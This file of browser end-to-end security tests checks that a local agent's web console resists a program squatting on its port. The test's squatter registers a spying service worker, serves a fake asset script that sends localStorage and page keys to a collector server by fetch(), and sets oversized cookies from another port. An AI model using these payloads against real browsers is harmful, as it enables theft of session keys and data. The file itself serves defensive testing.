/**
 * Attacks on the page by another account of the machine: as shown in November 2026, by a real browser, a program that held the console's
 * port for one visit, and one that listens beside the running agent.
 */
import { once } from 'node:events';
import { readdirSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, Page } from 'playwright-core';
import { afterEach, expect, test } from 'vitest';
import { PAGE_KEY_ITEM } from '../../shared/page-key.ts';
import { makeSample } from '../../main/practice/samples/sample.ts';
import { allAt } from '../integration/support/expectations.ts';
import { BUILT } from '../integration/support/command.ts';
import { openScene, type Scene } from '../integration/support/scene.ts';
import { portOfNobody } from '../unit/support/port-of-nobody.ts';
import { theBrowser } from './support/chromium.ts';

const closers: (() => Promise<unknown>)[] = [];
afterEach(async () => {
  for (const close of closers.splice(0).toReversed()) await close();
});

async function listenAt(
  port: number,
  answer: (request: IncomingMessage, response: ServerResponse) => void,
  address = '127.0.0.1',
): Promise<Server> {
  const server = createServer(answer);
  server.listen(port, address);
  await once(server, 'listening');
  return server;
}
const portOf = (server: Server): number => (server.address() as AddressInfo).port;
async function ended(server: Server): Promise<void> {
  server.close();
  server.closeAllConnections();
  await once(server, 'close');
}

/** Collects what reached the stranger: page keys, and text of the pages that its scripts saw. */
async function collector(): Promise<{ readonly url: string; readonly taken: string[] }> {
  const taken: string[] = [];
  const server = await listenAt(0, (request, response) => {
    taken.push(decodeURIComponent((request.url ?? '').slice(2)));
    response.writeHead(204, { 'access-control-allow-origin': '*' }).end();
  });
  closers.push(() => ended(server));
  return { url: `http://127.0.0.1:${String(portOf(server))}/`, taken };
}

const FOR_GOOD = 'max-age=31536000, immutable';
/** Runs in any page that the stranger's script gets into: it sends on what the storage holds and what can be read. */
const spy = (url: string): string => `
  const tell = (what) => fetch('${url}?' + encodeURIComponent(what), { mode: 'no-cors' });
  document.title = 'OWNED';
  setInterval(() => tell(JSON.stringify(localStorage)), 200);`;

/** Holds the port while no agent does, and leaves in the browser whatever it can. */
function squatter(port: number, url: string, scripts: readonly string[]): Promise<Server> {
  const pageScripts = scripts.map((name) => `/assets/${name}`);
  const worker = `
    self.addEventListener('install', () => self.skipWaiting());
    self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
    self.addEventListener('fetch', (event) => {
      const key = event.request.headers.get('x-twpas-page-key');
      fetch('${url}?' + encodeURIComponent('worker ' + event.request.url + ' ' + key), { mode: 'no-cors' });
      event.respondWith(fetch(event.request));
    });`;
  const page = `<title>stranger</title><script>
    navigator.serviceWorker.register('/w.js').then(() => navigator.serviceWorker.ready).then(() => { document.title = 'left'; });
    ${pageScripts.map((path) => `fetch('${path}');`).join('\n')}</script>`;
  return listenAt(port, (request, response) => {
    if (request.url === '/w.js') {
      response.writeHead(200, { 'content-type': 'text/javascript' }).end(worker);
    } else if (pageScripts.includes(request.url ?? '')) {
      response.writeHead(200, { 'content-type': 'text/javascript', 'cache-control': FOR_GOOD }).end(spy(url));
    } else {
      response.writeHead(200, { 'content-type': 'text/html' }).end(page);
    }
  });
}

async function sceneAt(port: number): Promise<Scene> {
  const scene = await openScene({
    settings: (settings) => {
      settings['console'] = { port };
    },
  });
  closers.push(() => scene.close());
  return scene;
}

async function aContext(): Promise<BrowserContext> {
  const browser = await theBrowser();
  const context = await browser.newContext({ locale: 'zh-TW', reducedMotion: 'reduce' });
  closers.push(() => context.close());
  return context;
}
/** The page of the first agent on this port, which a second one follows. */
async function openedPage(port: number) {
  const scene = await sceneAt(port);
  const first = await scene.agent();
  const page = await (await aContext()).newPage();
  await page.goto(first.consoleUrl);
  await page.getByRole('navigation').first().waitFor();
  return { scene, first, page };
}
/** The page of the run before goes to the address of this one by itself; a person's own way there is not asked for while it does. */
const moved = (page: Page, { consoleUrl }: { readonly consoleUrl: string }): Promise<void> =>
  page.waitForURL(({ hostname }) => hostname === new URL(consoleUrl).hostname);
const shownPatient = (page: Page): Promise<void> => page.locator('.case-row, [role=row]').nth(1).waitFor();

test.each(['127.0.0.1', 'localhost'])(
  'who held the port for one visit to %s has nothing of the page afterwards, and is gone from the address',
  { tags: 'full' },
  async (host) => {
    const port = await portOfNobody();
    const { url, taken } = await collector();
    // The names of the page's files are in the package: the stranger knows them.
    const scripts = readdirSync(`${BUILT}/page/assets`).filter((name) => name.endsWith('.js'));
    const before = await squatter(port, url, scripts);
    const context = await aContext();
    const page = await context.newPage();
    const address = `http://${host}:${String(port)}/`;
    await page.goto(address);
    await page.waitForFunction(() => document.title === 'left');
    await page.reload();
    // Once our worker takes the place of theirs, it leads their page away, at a time of the browser's choice.
    await page.goto('about:blank');
    await ended(before);

    const scene = await sceneAt(port);
    const agent = await scene.agent();
    await scene.put(makeSample({ seed: 'victim', ending: 'approve', subType: '1', priority: '1' }));
    await agent.until('accepted', allAt(1, 'accepted'));
    taken.length = 0;
    const fresh = (await agent.status()).console?.url ?? '';
    await page.goto(`${fresh}#/cases`);
    await page.getByRole('navigation').first().waitFor();
    await shownPatient(page);
    await expect.poll(() => page.title()).not.toBe('OWNED');
    const key = await page.evaluate(() => localStorage.getItem('twpas.page-key'));
    expect(key).toMatch(/^[\w-]{43}$/);
    await expect.poll(() => page.evaluate(() => navigator.serviceWorker.controller)).toBeNull();
    expect(taken.filter((each) => each.includes(key ?? '') || each.includes('rpc'))).toEqual([]);

    // At the old address the browser still has the worker: it looks for its script, gets ours, and is rid of it.
    const old = await context.newPage();
    await expect
      .poll(async () => {
        await old.goto(address).catch(() => undefined);
        return new URL(old.url()).hostname;
      })
      .toMatch(/^twpas-[a-z2-7]{16}\.localhost$/);
    await page.reload();
    await shownPatient(page);
    taken.length = 0;
    await old.goto(address);
    expect(new URL(old.url()).hostname).toBe(new URL(fresh).hostname);
    await old.getByRole('navigation').first().waitFor();
    expect(taken).toEqual([]);
  },
);

test(
  'nobody listens at [::1] beside the running agent, and `localhost` leads to the page of this run',
  { tags: 'full' },
  async () => {
    const port = await portOfNobody();
    const scene = await sceneAt(port);
    const agent = await scene.agent();
    await expect(listenAt(port, (_request, response) => response.end('theirs'), '::1')).rejects.toMatchObject(
      {
        code: 'EADDRINUSE',
      },
    );
    const context = await aContext();
    const page = await context.newPage();
    const { pathname, search } = new URL((await agent.status()).console?.url ?? '');
    await page.goto(`http://localhost:${String(port)}${pathname}${search}#/cases`);
    await page.getByRole('navigation').first().waitFor();
    expect(new URL(page.url()).hostname).toBe(new URL(agent.consoleUrl).hostname);
    expect(new URL(page.url()).hash).toBe('#/cases');
    // A second tab by the address that people remember is in the same session.
    const second = await context.newPage();
    await second.goto(`http://127.0.0.1:${String(port)}/`);
    await second.getByRole('navigation').first().waitFor();
  },
);

test('a page of the run before says so when the agent is back, and signs in at the address of this run', async () => {
  const port = await portOfNobody();
  const { scene, first, page } = await openedPage(port);
  const before = new URL(page.url()).hostname;
  await first.stop();
  const second = await scene.agent();
  await moved(page, second);
  await page.getByText('twpas-agent status').first().waitFor();
  await page.goto('about:blank');
  await page.goto(`http://${before}:${String(port)}/#/health`);
  expect(new URL(page.url()).hostname).toBe(new URL(second.consoleUrl).hostname);
  expect(new URL(page.url()).hash).toBe('#/health');
});

test(
  'a page finds the agent of this run also where one of its files was asked for before its first call',
  { tags: 'full' },
  async () => {
    const { scene, first, page } = await openedPage(await portOfNobody());
    await page.route('**/rpc/**', (route) => route.abort());
    await first.stop();
    const second = await scene.agent();
    // The new agent has the browser forget all that a program between the two may have left there, the page key among it.
    await page.evaluate(() => fetch('/assets/any.js').catch(() => null));
    await page.waitForFunction((item) => localStorage.getItem(item) === null, PAGE_KEY_ITEM);
    await page.unroute('**/rpc/**');
    await moved(page, second);
  },
);

test('a page goes to a slow agent once, however often it calls meanwhile', { tags: 'full' }, async () => {
  const { scene, first, page } = await openedPage(await portOfNobody());
  let asked = 0;
  let calls = 0;
  const refusedTwiceMore = new Promise<void>((resolve) => {
    page.on('response', (response) => {
      if (response.status() === 401 && new URL(response.url()).pathname.startsWith('/rpc/')) calls += 1;
      if (calls === 3) resolve();
    });
  });
  await page.route(
    ({ search }) => search === '?moved',
    async (route) => {
      asked += 1;
      await refusedTwiceMore;
      await route.continue();
    },
  );
  await first.stop();
  const second = await scene.agent();
  await moved(page, second);
  expect(asked).toBe(1);
});

test(
  'cookies that another port of this host has set do not shut the browser out',
  { tags: 'full' },
  async () => {
    const port = await portOfNobody();
    const scene = await sceneAt(port);
    const agent = await scene.agent();
    const context = await aContext();
    const page = await context.newPage();
    const setter = await listenAt(0, (request, response) => {
      const cookies = Array.from({ length: 12 }, (_, n) => `big${String(n)}=${'x'.repeat(3900)}; Path=/`);
      response
        .writeHead(200, { 'set-cookie': cookies, 'content-type': 'text/html' })
        .end(request.headers.host);
    });
    closers.push(() => ended(setter));
    for (const host of ['127.0.0.1', 'localhost', new URL(agent.consoleUrl).hostname])
      await page.goto(`http://${host}:${String(portOf(setter))}/`);
    for (const host of ['127.0.0.1', 'localhost']) {
      const { pathname, search } = new URL((await agent.status()).console?.url ?? '');
      await page.goto(`http://${host}:${String(port)}${pathname}${search}`);
      await page.getByRole('navigation').first().waitFor();
    }
  },
);

test(
  'what a person chose for the page is there after the agent has started again',
  { tags: 'full' },
  async () => {
    const { scene, first, page } = await openedPage(await portOfNobody());
    await page.getByRole('button', { name: /^目前人員/ }).click();
    const kept = page.waitForResponse((response) => response.url().endsWith('/rpc/people/keepChoice'));
    await page.getByRole('menuitem', { name: '語言' }).hover();
    await page.getByRole('menuitem', { name: 'English' }).click();
    expect((await kept).status()).toBe(200);
    await first.stop();
    const second = await scene.agent();
    await moved(page, second);
    await page.goto(second.consoleUrl);
    await page.getByRole('link', { name: 'Cases' }).first().waitFor();
  },
);
